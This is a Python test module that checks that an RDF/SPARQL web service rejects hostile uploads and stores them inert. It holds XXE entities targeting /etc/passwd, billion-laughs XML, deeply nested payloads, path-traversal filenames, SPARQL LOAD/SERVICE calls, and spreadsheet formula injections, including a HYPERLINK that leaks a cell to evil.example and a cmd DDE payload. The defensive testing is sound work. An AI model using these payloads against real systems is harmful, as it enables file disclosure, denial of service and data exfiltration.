"""Hostile bodies in every format the app accepts: RDF uploads to /store (each triple format), SPARQL Update on
/update and queries on /sparql, documents on /documents and partner spreadsheets on /store/spreadsheet.

Every case must be refused with a 4xx that says what is wrong and, where it applies, where (line and column for
text formats, row and column for spreadsheets), and leave the store and the accounts file exactly as they were.
Nothing an upload points at may be fetched: a loopback server records any request (zero hits). The few inputs that
are harmless data (a spreadsheet formula, a literal just under the size limit) must be accepted and stored as plain
text. The module prints "hostile inputs: N tried, N rejected with 4xx, ..." for the closing note.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import openpyxl
import pytest
from httpx import Response

from tests.api import test_store_gsp as gsp
from tests.conftest import PRINTED
from tests.security.conftest import ALPHA_GRAPH, UPLOAD_MAX_BYTES, Hub, Tally
from tests.security.hits import recording_server

TALLY = Tally()
SUBJECT, PREDICATE = "http://example.org/s", "http://example.org/p"

# One small valid graph per accepted media type; the cases below break it.
VALID = {
    "text/turtle": f'<{SUBJECT}> <{PREDICATE}> "value" .\n<{SUBJECT}> <{PREDICATE}> "second" .\n',
    "application/x-turtle": f'<{SUBJECT}> <{PREDICATE}> "value" .\n<{SUBJECT}> <{PREDICATE}> "second" .\n',
    "application/n-triples": f'<{SUBJECT}> <{PREDICATE}> "value" .\n<{SUBJECT}> <{PREDICATE}> "second" .\n',
    "text/plain": f'<{SUBJECT}> <{PREDICATE}> "value" .\n<{SUBJECT}> <{PREDICATE}> "second" .\n',
    "text/n3": f'<{SUBJECT}> <{PREDICATE}> "value" .\n<{SUBJECT}> <{PREDICATE}> "second" .\n',
    "application/rdf+xml": (
        '<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:ex="http://example.org/">\n'
        f'<rdf:Description rdf:about="{SUBJECT}">\n<ex:p>value</ex:p>\n</rdf:Description>\n</rdf:RDF>\n'
    ),
    "application/ld+json": f'{{\n"@id": "{SUBJECT}",\n"{PREDICATE}": "value"\n}}\n',
}
# Where a body with a bad byte, or cut short, is wrong: a 400 names the line and column of each.
BAD_UTF8 = {media: body.replace("value", "va\udcff").encode("utf-8", "surrogateescape")
            for media, body in VALID.items()}
TRUNCATED = {media: body.encode()[: body.index("value") + 3] for media, body in VALID.items()}


def put(hub: Hub, body: bytes, media_type: str, **headers: str) -> Response:
    return hub.client.put("/store", params={"graph": ALPHA_GRAPH}, content=body,
                          headers={**hub.alpha, "Content-Type": media_type, **headers})


def refused(hub: Hub, send: Callable[[], Response], *, status: int | None = None,
            says: tuple[str, ...] = (), where: tuple[str, ...] = ()) -> Response:
    """Sends a hostile request: a 4xx (``status`` when given) whose body says each of ``says`` and has each field of
    ``where`` (e.g. line, column), and the store and accounts exactly as before."""
    before = hub.state()
    TALLY.tried += 1
    response = send()
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:500])
    if status is not None:
        assert response.status_code == status, response.text[:500]
    for text in says:
        assert text.lower() in response.text.lower(), response.text[:500]
    if where:
        detail = response.json()["detail"]
        problems = detail.get("problems") or [detail]
        for key in where:
            assert any(problem.get(key) for problem in problems), (key, detail)
    assert hub.state() == before, "a refused request changed the store"
    TALLY.rejected += 1
    return response


# --- RDF bodies on /store -------------------------------------------------------------------------------------


def test_baseline_taken(baseline) -> None:
    """Takes the store's full state before the first hostile request (compared after the last)."""
    assert baseline


@pytest.mark.parametrize("media_type", sorted(VALID))
def test_truncated_rdf_is_400_with_line_and_column(hub: Hub, media_type: str) -> None:
    refused(hub, lambda: put(hub, TRUNCATED[media_type], media_type), status=400, says=("does not parse",),
            where=("line", "column"))


@pytest.mark.parametrize("media_type", sorted(VALID))
def test_invalid_utf8_is_400_with_line_and_column(hub: Hub, media_type: str) -> None:
    refused(hub, lambda: put(hub, BAD_UTF8[media_type], media_type), status=400, where=("line", "column"))


@pytest.mark.parametrize("media_type", sorted(VALID))
def test_a_literal_over_the_upload_limit_is_413_before_parsing(hub: Hub, media_type: str) -> None:
    body = VALID[media_type].replace("value", "x" * UPLOAD_MAX_BYTES).encode()
    refused(hub, lambda: put(hub, body, media_type), status=413, says=("upload_max_bytes",))
    # without a Content-Length (chunked), the limit is enforced on the bytes as they come
    chunks = lambda: iter([body[i: i + 65536] for i in range(0, len(body), 65536)])  # noqa: E731
    refused(hub, lambda: put(hub, chunks(), media_type), status=413, says=("upload_max_bytes",))  # type: ignore


def test_a_declared_length_over_the_limit_is_413_without_reading(hub: Hub) -> None:
    refused(hub, lambda: put(hub, b"x", "text/turtle", **{"Content-Length": str(UPLOAD_MAX_BYTES + 1)}),
            status=413)


DEPTH = 100_000  # far past anything real; 5,000 JSON-LD levels already crashed the server before the guard


@pytest.mark.parametrize("depth", [5_000, DEPTH])
def test_deeply_nested_json_ld_is_400_with_where(hub: Hub, depth: int) -> None:
    """Regression: a write token holder could kill the server with ~100 KB of nested JSON-LD objects (a segmentation
    fault in pyoxigraph's recursive JSON-LD parser at a few thousand levels)."""
    arrays = b'{"@id": "http://example.org/s", "http://example.org/p": ' + b"[" * depth + b'"x"' + b"]" * depth + b"}"
    refused(hub, lambda: put(hub, arrays, "application/ld+json"), status=400, says=("nested deeper",),
            where=("line", "column"))
    # objects: as deep as fits under the (test's) 256 KB upload limit at 7 bytes a level
    depth = min(depth, 35_000)
    body = b'{"@id": "http://example.org/s", "http://example.org/p": ' + b'{"a": ' * depth + b'"x"' + \
        b"}" * depth + b"}"
    refused(hub, lambda: put(hub, body, "application/ld+json"), status=400, says=("nested deeper",),
            where=("line", "column"))


@pytest.mark.parametrize("shape", ["string", "array", "nested", "scoped"])
def test_a_remote_json_ld_context_is_never_fetched(hub: Hub, shape: str) -> None:
    with recording_server() as (base, hits):
        url = f"{base}/context.jsonld"
        context = {"string": f'"{url}"', "array": f'["{url}"]', "nested": f'{{"@import": "{url}"}}',
                   "scoped": f'{{"t": {{"@id": "http://example.org/t", "@context": "{url}"}}}}'}[shape]
        body = f'{{"@context": {context}, "@id": "{SUBJECT}", "@type": "t", "name": "x"}}'.encode()
        refused(hub, lambda: put(hub, body, "application/ld+json"), status=400, says=("context",))
        assert hits == []


LAUGHS = "\n".join(
    [f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
)
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol0 "lol">
{LAUGHS}
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">
<rdf:Description rdf:about="{SUBJECT}"><ex:p>&lol9;</ex:p></rdf:Description></rdf:RDF>
"""


def test_billion_laughs_rdf_xml_is_400_at_once(hub: Hub) -> None:
    """Regression: 1 KB of nested entities became one 3 GB literal (21 s, 3 GB of memory) before the guard."""
    refused(hub, lambda: put(hub, BILLION_LAUGHS.encode(), "application/rdf+xml"), status=400,
            where=("line", "column"))
    # linear growth: one entity of 10 KB used 100 times is 1 MB of text, past the (test's) 256 KB upload limit
    wide = (f'<?xml version="1.0"?>\n<!DOCTYPE r [ <!ENTITY big "{"x" * 10_000}"> ]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
            f'<rdf:Description rdf:about="{SUBJECT}"><ex:p>{"&big;" * 100}</ex:p></rdf:Description></rdf:RDF>\n')
    refused(hub, lambda: put(hub, wide.encode(), "application/rdf+xml"), status=400, says=("expand",),
            where=("line", "column"))


@pytest.mark.parametrize("target", ["file:///etc/passwd", "LOCAL"])
def test_external_entities_are_refused_and_never_read(hub: Hub, target: str) -> None:
    with recording_server() as (base, hits):
        system = f"{base}/entity.xml" if target == "LOCAL" else target
        for declaration, use in ((f'<!ENTITY xxe SYSTEM "{system}">', "&xxe;"),
                                 (f'<!ENTITY % xxe SYSTEM "{system}"> %xxe;', "x"),
                                 (f'<!ENTITY xxe PUBLIC "-//x//y" "{system}">', "&xxe;")):
            body = (f'<?xml version="1.0"?>\n<!DOCTYPE r [ {declaration} ]>\n'
                    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
                    f'xmlns:ex="http://example.org/">\n<rdf:Description rdf:about="{SUBJECT}"><ex:p>{use}</ex:p>'
                    "</rdf:Description></rdf:RDF>\n")
            response = refused(hub, lambda body=body: put(hub, body.encode(), "application/rdf+xml"), status=400,
                               says=("entity",), where=("line", "column"))
            assert "root:" not in response.text
        assert hits == []


def test_deeply_nested_rdf_xml_is_400(hub: Hub) -> None:
    """Regression: pyoxigraph's RDF/XML parser takes time quadratic in the depth (50,000 levels: 21 s)."""
    body = ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
            + "<rdf:Description><ex:p>" * 5_000 + "</ex:p></rdf:Description>" * 5_000 + "</rdf:RDF>")
    refused(hub, lambda: put(hub, body.encode(), "application/rdf+xml"), status=400, says=("nested deeper",),
            where=("line", "column"))


@pytest.mark.parametrize("media_type, reason", [
    ("application/n-quads", "triple format"), ("application/trig", "triple format"),
    ("application/json", "not an RDF format"), ("text/turtle; charset=latin-1", "UTF-8"), ("", "Content-Type"),
])
def test_formats_we_do_not_read_are_415(hub: Hub, media_type: str, reason: str) -> None:
    refused(hub, lambda: put(hub, VALID["text/turtle"].encode(), media_type), status=415, says=(reason,))


def test_n3_formulas_and_bad_iris_are_400(hub: Hub) -> None:
    formula = f"<{SUBJECT}> <{PREDICATE}> {{ <{SUBJECT}> <{PREDICATE}> 1 }} .\n"
    refused(hub, lambda: put(hub, formula.encode(), "text/n3"), status=400, says=("more than one graph",))
    for bad in ("<http://exa mple.org/s>", "<javascript:alert(1)\x00>", "<\\u0000>"):
        body = f'{bad} <{PREDICATE}> "x" .\n'.encode()
        refused(hub, lambda body=body: put(hub, body, "text/turtle"), status=400, where=("line", "column"))


# --- SPARQL Update on /update and queries on /sparql --------------------------------------------------------------


def post_update(hub: Hub, text: bytes | str, media_type: str = "application/sparql-update") -> Response:
    return hub.client.post("/update", content=text if isinstance(text, bytes) else text.encode(),
                           headers={**hub.alpha, "Content-Type": media_type})


def test_deeply_nested_updates_are_400_with_where(hub: Hub) -> None:
    """Regression: an update nested ~3,000 groups deep crashed the server (pyoxigraph's SPARQL parser recursed past
    the thread's stack in the app's own process: /update parses it there)."""
    for depth in (3_000, 100_000):
        text = f"DELETE {{ GRAPH <{ALPHA_GRAPH}> {{ ?s ?p ?o }} }} WHERE " + "{" * depth + "}" * depth
        refused(hub, lambda text=text: post_update(hub, text), status=400, says=("nested deeper",),
                where=("line", "column"))
        refused(hub, lambda text=text: post_update(hub, "update=" + text.replace("{", "%7B").replace("}", "%7D"),
                                                   "application/x-www-form-urlencoded"), status=400)


def test_bad_updates_are_4xx_saying_where(hub: Hub) -> None:
    graph = f"GRAPH <{ALPHA_GRAPH}>"
    refused(hub, lambda: post_update(hub, f'INSERT DATA {{ {graph} {{ <{SUBJECT}> <{PREDICATE}> "x'), status=400,
            where=("line", "column"))
    refused(hub, lambda: post_update(hub, f'INSERT DATA {{ {graph} {{ <{SUBJECT}> <{PREDICATE}> "\xff" }} }}'
                                     .encode("latin-1")), status=400, says=("UTF-8",))
    # DROP ALL runs over alpha's own graphs only (it has none here): a no-op, the store untouched
    before = hub.state()
    assert post_update(hub, "DROP ALL").status_code == 204
    assert hub.state() == before
    refused(hub, lambda: post_update(hub, "  "), status=400, says=("empty",))
    refused(hub, lambda: post_update(hub, "x" * (1024 * 1024 + 1)), status=413, says=("query_max_request_bytes",))
    refused(hub, lambda: post_update(hub, "INSERT DATA {}", "text/turtle"), status=415)


def test_load_and_service_in_an_update_fetch_nothing(hub: Hub) -> None:
    with recording_server() as (base, hits):
        for text in (f"LOAD <{base}/data.ttl> INTO GRAPH <{ALPHA_GRAPH}>",
                     f"LOAD SILENT <{base}/data.ttl>",
                     f"INSERT {{ GRAPH <{ALPHA_GRAPH}> {{ ?s ?p ?o }} }} WHERE {{ SERVICE <{base}/sparql> "
                     "{ ?s ?p ?o } }"):
            refused(hub, lambda text=text: post_update(hub, text), status=403, says=("remote_endpoint_allowlist",))
        assert hits == []


def test_deeply_nested_queries_are_400_with_where(hub: Hub) -> None:
    """Regression: a query nested ~3,000 groups deep crashed the query worker (and a remote store's server)."""
    for query in ("SELECT * WHERE " + "{" * 3_000 + "}" * 3_000,
                  "ASK { FILTER(" + "(" * 50_000 + "1" + ")" * 50_000 + ") }"):
        refused(hub, lambda query=query: hub.client.post("/sparql", content=query.encode(),
                                                         headers={"Content-Type": "application/sparql-query"}),
                status=400, says=("nested deeper", "line 1"))


# --- documents on /documents ------------------------------------------------------------------------------------


def post_document(hub: Hub, name: str, data: bytes, **fields: str) -> Response:
    return hub.client.post("/documents", headers=hub.alpha, files={"file": (name, data)}, data=fields)


def test_hostile_documents_are_4xx(hub: Hub) -> None:
    refused(hub, lambda: post_document(hub, "report.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog"), status=422,
            says=("report.pdf",))
    refused(hub, lambda: post_document(hub, "report.exe", b"MZ\x90\x00"), status=415)
    refused(hub, lambda: post_document(hub, "../../etc/passwd", b"x"), status=415)
    refused(hub, lambda: post_document(hub, "big.txt", b"x" * (UPLOAD_MAX_BYTES + 1)), status=413)
    refused(hub, lambda: post_document(hub, "r.txt", b"Cobalt.", date="2025-13-45"), status=422, says=("date",))
    broken = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n'  # cut short
    refused(hub, lambda: hub.client.post("/documents", content=broken,
                                         headers={**hub.alpha, "Content-Type": "multipart/form-data; boundary=x"}))


# --- partner spreadsheets on /store/spreadsheet ---------------------------------------------------------------------

# the Graph Store tests' spreadsheet and mapping, as partner alpha's
MAPPING = gsp.MAPPING.replace("bgs", "alpha").replace("BGS", "Alpha")
SHEET = gsp.SHEET


def upload_sheet(hub: Hub, data: bytes, *, name: str = "sites.csv", mapping: bytes | None = None) -> Response:
    return hub.client.post("/store/spreadsheet", params={"graph": ALPHA_GRAPH}, headers=hub.alpha,
                           files={"mapping": ("mapping.toml", mapping or MAPPING.encode()), "data": (name, data)})


def xlsx(rows: list[list[object]], *, formulas_as_text: bool = False) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    if formulas_as_text:  # a text cell that starts with '=' (as a sheet holds a pasted formula), not a formula
        for line in book.active.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_malformed_csv_is_422_naming_row_and_column(hub: Hub) -> None:
    ragged = SHEET + "Short Row Mine\nLong Row Mine,United Kingdom,50.1,extra,cells\n"
    refused(hub, lambda: upload_sheet(hub, ragged.encode()), status=422, where=("row",))
    latin = (SHEET + "Mina Peña,Spain,40.1\n").encode("utf-16")
    refused(hub, lambda: upload_sheet(hub, latin), status=422)
    refused(hub, lambda: upload_sheet(hub, (SHEET + "Bad Mine,Atlantis,north\n").encode()), status=422,
            where=("row", "column"))
    refused(hub, lambda: upload_sheet(hub, b"\x00\x01\x02\xff" * 100), status=422)
    refused(hub, lambda: upload_sheet(hub, b""), status=422)
    huge = (SHEET + "Huge Mine," + "x" * UPLOAD_MAX_BYTES + ",50.1\n").encode()
    refused(hub, lambda: upload_sheet(hub, huge), status=413, says=("upload_max_bytes",))


def test_malformed_mappings_are_422_naming_the_key(hub: Hub) -> None:
    refused(hub, lambda: upload_sheet(hub, SHEET.encode(), mapping=b"name = \n[[["), status=422)
    refused(hub, lambda: upload_sheet(hub, SHEET.encode(), mapping=b"\xff\xfe"), status=422)
    refused(hub, lambda: upload_sheet(hub, SHEET.encode(), mapping=MAPPING.replace('"Site"', '"Nope"').encode()),
            status=422)


def test_malformed_xlsx_is_422(hub: Hub) -> None:
    good = xlsx([["Site", "Country", "Latitude"], ["Cornwall Test Mine", "United Kingdom", 50.3]])
    refused(hub, lambda: upload_sheet(hub, good[: len(good) // 2], name="sites.xlsx"), status=422)
    refused(hub, lambda: upload_sheet(hub, b"PK\x03\x04 not really a zip", name="sites.xlsx"), status=422)
    # Regression: a workbook whose sheet XML is broken, or a billion-laughs document, raised ParseError out of the
    # lazy (read-only) sheet reader: a 500. Now a 422 naming the part's line and column (expat stops the laughs).
    source = zipfile.ZipFile(io.BytesIO(good))
    for variant in ("laughs", "broken"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as target:
            for item in source.infolist():
                data = source.read(item)
                if item.filename == "xl/worksheets/sheet1.xml":
                    text = data.decode()
                    text = (f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{LAUGHS}]>' +
                            text.replace("Cornwall Test Mine", "&lol9;")) if variant == "laughs" else text[:400]
                    data = text.encode()
                target.writestr(item.filename, data)
        refused(hub, lambda buffer=buffer: upload_sheet(hub, buffer.getvalue(), name="sites.xlsx"), status=422,
                says=("line",))


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(1)",
            "-2+3"]


def test_the_store_is_unchanged_after_every_refusal(hub: Hub, baseline) -> None:
    """Every quad count of every graph as before the first hostile request (run before the accepted cases below)."""
    assert hub.full_state() == baseline


# --- harmless data that looks hostile: accepted, stored as plain text, then removed ---------------------------------


@pytest.mark.parametrize("media_type", sorted(VALID))
def test_each_valid_body_is_accepted(hub: Hub, media_type: str) -> None:
    """The control: the bodies the cases below break are accepted as they are (then the graph is removed)."""
    response = put(hub, VALID[media_type].encode(), media_type)
    assert response.status_code in (201, 204), response.text
    assert hub.client.delete("/store", params={"graph": ALPHA_GRAPH}, headers=hub.alpha).status_code == 204


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_cells_are_stored_as_plain_text(hub: Hub, kind: str) -> None:
    rows = [["Site", "Country", "Latitude"]] + [[formula, "United Kingdom", 50.0 + n]
                                                for n, formula in enumerate(FORMULAS)]
    if kind == "csv":
        text = "\n".join(",".join('"' + str(c).replace('"', '""') + '"' for c in row) for row in rows)
        response = upload_sheet(hub, text.encode())
    else:
        response = upload_sheet(hub, xlsx(rows, formulas_as_text=True), name="sites.xlsx")
    assert response.status_code in (201, 204), response.text
    TALLY.tried += 1
    TALLY.accepted.append(f"{kind} formulas")
    store = hub.client.get("/store", params={"graph": ALPHA_GRAPH},
                           headers={**hub.alpha, "Accept": "application/n-triples"}).text
    for formula in FORMULAS:  # verbatim: never evaluated, never dropped
        escaped = formula.replace("\\", "\\\\").replace('"', '\\"')
        assert f'"{escaped}"' in store, formula
    assert hub.client.delete("/store", params={"graph": ALPHA_GRAPH}, headers=hub.alpha).status_code == 204


def test_real_formulas_in_xlsx_are_never_evaluated(hub: Hub) -> None:
    """A formula cell is read as its cached value, never computed: with none cached, the cell is empty, and the
    mapping says which row and column need it."""
    rows = [["Site", "Country", "Latitude"], ['=HYPERLINK("http://evil.example/","x")', "United Kingdom", 50.1]]
    refused(hub, lambda: upload_sheet(hub, xlsx(rows), name="sites.xlsx"), status=422, where=("row", "column"))


def test_a_literal_just_under_the_limit_is_accepted(hub: Hub) -> None:
    head = f'<{SUBJECT}> <{PREDICATE}> "'.encode()
    body = head + b"y" * (UPLOAD_MAX_BYTES - len(head) - 4) + b'" .\n'
    assert len(body) == UPLOAD_MAX_BYTES
    response = put(hub, body, "application/n-triples")
    assert response.status_code == 201, response.text
    TALLY.tried += 1
    TALLY.accepted.append("literal just under upload_max_bytes")
    assert hub.client.delete("/store", params={"graph": ALPHA_GRAPH}, headers=hub.alpha).status_code == 204


def test_summary(record_property) -> None:
    """The module's figures (run last: tests run in file order)."""
    assert TALLY.tried >= 80 and TALLY.rejected == TALLY.tried - len(TALLY.accepted)
    line = TALLY.line("hostile inputs")
    print(line)
    record_property(PRINTED, line)
